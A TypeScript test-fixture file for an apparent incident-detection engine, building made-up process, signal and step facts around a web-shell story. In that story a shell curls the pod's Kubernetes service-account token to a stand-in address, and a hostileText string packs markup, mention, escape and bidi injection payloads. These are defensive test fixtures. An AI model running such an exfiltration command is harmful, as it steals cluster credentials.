/**
 * Holds made-up facts of detection for tests of incidents, and two whole stories of them.
 * In: what a test cares about. Out: whole facts, inputs of the judge, incidents.
 * Addresses and names are made up; nothing here is taken from a recording.
 */
import { gatherFloods } from "../core/judge/incident/gather-floods.ts";
import type { Incident } from "../core/judge/incident/incident.ts";
import { buildCase, type IncidentCase } from "../core/judge/incident/incident-case.ts";
import type { IncidentInput } from "../core/judge/incident/incident-input.ts";
import { joinSessions } from "../core/judge/incident/join-sessions.ts";
import { judgeIncidents } from "../core/judge/incident/judge-incidents.ts";
import { gatherSessions } from "../core/judge/incident/session.ts";
import type { ProcessFact, SignalFact, StepFact } from "../core/observe/detect/detect-fact.ts";
import { type Level, levelScores } from "../core/observe/detect/rule.ts";
import type { Citation, Workload } from "../core/observe/fact.ts";
import { sampleContainerFact, sampleCoverage, sampleStartUs } from "./sample-facts.ts";

export const secondUs = 1_000_000;
export const webContainer = "a".repeat(31);
export const dataContainer = "b".repeat(31);

export function incidentWorkload(name: string, namespace = "shop"): Workload {
  return { cluster: "", namespace, kind: "Deployment", name, container: name };
}

/** An event `second` after the start; its offset is unique to the process and second. */
export function sampleCitation(process: string, second: number, offset = second): Citation {
  return {
    timeUs: sampleStartUs + second * secondUs,
    node: "node-1",
    execId: process,
    pid: 100,
    binary: "/bin/sh",
    sensor: "exec",
    policy: "",
    input: 0,
    offset,
  };
}

interface Placed {
  readonly process: string;
  readonly entry: string;
  /** **Unit**: seconds after the start. */
  readonly second: number;
}

export function sampleSignal(
  { process, entry, second }: Placed,
  given: Partial<SignalFact> = {},
): SignalFact {
  const level: Level = given.level ?? "high";
  return {
    kind: "signal",
    container: webContainer,
    node: "node-1",
    entry,
    entryKind: "service",
    host: "web-server",
    process,
    others: [],
    actor: "service",
    workload: incidentWorkload("web"),
    rule: `rule-of-${given.family ?? "web-shell"}`,
    title: `Rule of ${given.family ?? "web-shell"}`,
    ruleKind: "sequence",
    family: "web-shell",
    level,
    score: levelScores[level],
    techniques: ["T1059.004"],
    tactics: ["execution"],
    matrix: [],
    author: "waggle",
    because: [],
    indicators: [],
    incomplete: false,
    count: 1,
    firstSeenUs: sampleStartUs + second * secondUs,
    lastSeenUs: sampleStartUs + second * secondUs,
    citations: [sampleCitation(process, second)],
    ...given,
  };
}

export function sampleProcess(
  { process, entry, second }: Placed,
  given: Partial<ProcessFact> = {},
): ProcessFact {
  return {
    kind: "process",
    container: webContainer,
    node: "node-1",
    process,
    parent: "web-server",
    entry,
    workload: incidentWorkload("web"),
    image: "registry.example/web:1",
    pid: 100 + second,
    uid: 33,
    auid: -1,
    binary: "/bin/sh",
    arguments: "",
    cwd: "/",
    actor: "service",
    startUs: sampleStartUs + second * secondUs,
    exitUs: sampleStartUs + (second + 1) * secondUs,
    exitStatus: "0",
    citations: [sampleCitation(process, second)],
    ...given,
  };
}

export function sampleStep(
  { process, entry, second }: Placed,
  given: Partial<StepFact> = {},
): StepFact {
  return {
    kind: "step",
    container: webContainer,
    node: "node-1",
    entry,
    process,
    what: "connect",
    subject: "203.0.113.9:80",
    detail: "",
    sentBytes: 0,
    receivedBytes: 0,
    count: 1,
    firstSeenUs: sampleStartUs + second * secondUs,
    lastSeenUs: sampleStartUs + second * secondUs,
    citations: [sampleCitation(process, second, 1000 + second)],
    ...given,
  };
}

export function sampleInput(given: Partial<IncidentInput> = {}): IncidentInput {
  return {
    signals: [],
    processes: [],
    steps: [],
    containers: [containerNamed(webContainer, "web"), containerNamed(dataContainer, "postgres")],
    coverage: (["exec", "network", "write", "open"] as const).map((sensor) =>
      sampleCoverage({ sensor }),
    ),
    losses: [],
    flows: [],
    findings: [],
    contexts: [],
    listenersAt: () => [],
    previous: [],
    nowUs: 0,
    ...given,
  };
}

function containerNamed(container: string, name: string) {
  return sampleContainerFact({
    container,
    pod: `${name}-0`,
    workload: name,
    workloadKind: "Deployment",
    containerName: name,
    imageName: `registry.example/${name}:1`,
  });
}

const server = { process: "web-server", entry: "", second: -600 };

/** A service runs a command, which sends the token of its pod away. */
export function webShellFacts(): Pick<IncidentInput, "signals" | "processes" | "steps"> {
  const look = { process: "sh-1", entry: "sh-1", second: 10 };
  const send = { process: "sh-2", entry: "sh-2", second: 12 };
  const curl = { process: "curl", entry: "sh-2", second: 13 };
  const token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
  const args = `-s --data-binary @${token} http://203.0.113.9/u`;
  const credential: Partial<SignalFact> = {
    family: "credential-access",
    techniques: ["T1528"],
    tactics: ["credential-access"],
    matrix: ["MS-TA9016"],
  };
  return {
    processes: [
      sampleProcess(server, { parent: "", binary: "/usr/sbin/php-fpm", exitUs: 0, pid: 9 }),
      sampleProcess(look, { arguments: '-c "ls /var/run/secrets"' }),
      sampleProcess(send, { arguments: `-c "curl ${args}"` }),
      sampleProcess(curl, { parent: "sh-2", binary: "/usr/bin/curl", arguments: args }),
    ],
    signals: [
      sampleSignal(look, { level: "medium", matrix: ["MS-TA9009"] }),
      sampleSignal(send, { level: "medium" }),
      sampleSignal(curl, { ...credential, level: "high" }),
    ],
    steps: [
      sampleStep(curl, { what: "read", subject: token }),
      sampleStep({ ...curl, second: 14 }, { sentBytes: 1400, receivedBytes: 90 }),
    ],
  };
}

export function sampleIncident(given: Partial<IncidentInput> = {}): Incident {
  const [incident] = judgeIncidents(sampleInput({ ...webShellFacts(), ...given }));
  if (incident === undefined) throw new Error("the sample's facts must be an incident");
  return incident;
}

/** The case of the first incident, before it is told. */
export function sampleCase(given: Partial<IncidentInput> = {}): IncidentCase {
  const input = sampleInput({ ...webShellFacts(), ...given });
  const { sessions, processes } = gatherSessions(input);
  const owners = new Map(
    sessions.flatMap((session) =>
      session.processes.map(({ process }) => [process, session] as const),
    ),
  );
  const sessionOf = (process: string) => owners.get(process);
  const scene = { sessions, processes, sessionOf, listenersAt: input.listenersAt };
  const [group] = gatherFloods(joinSessions(scene));
  if (group === undefined) throw new Error("the sample's facts must hold a session");
  const containerOf = new Map(input.containers.map((fact) => [fact.container, fact]));
  return buildCase(group, { input, processes, containerOf, visitors: new Map() });
}

/** As a hostile workload would have it: markup, mentions, escapes, bidi, endless text. */
export const hostileText =
  "<!channel> <b>&\"'` [x](http://evil.example) \u001b[31m \u202e\u200b\n@here | ¦ $" +
  "{{ x }} " +
  "A".repeat(3000);

/** The same story, with hostile text wherever telemetry or rules stand. */
export function hostileFacts(): Pick<IncidentInput, "signals" | "processes" | "steps"> {
  const { signals, processes, steps } = webShellFacts();
  const workload = { ...incidentWorkload(hostileText), container: hostileText };
  return {
    signals: signals.map((one) => ({
      ...one,
      workload,
      title: hostileText,
      author: hostileText,
      rule: `${hostileText}${one.rule}`,
      because: [hostileText],
      indicators: [
        { type: "file", value: hostileText },
        { type: "domain", value: hostileText },
      ],
      techniques: [hostileText],
      tactics: [hostileText],
      matrix: [hostileText],
    })),
    processes: processes.map((one) => ({
      ...one,
      binary: `/bin/${hostileText}`,
      arguments: hostileText,
      image: hostileText,
      exitStatus: hostileText,
    })),
    steps: steps.map((one, at) => ({
      ...one,
      what: at === 0 ? "write" : "mount",
      subject: `/tmp/${hostileText}`,
      detail: hostileText,
    })),
  };
}
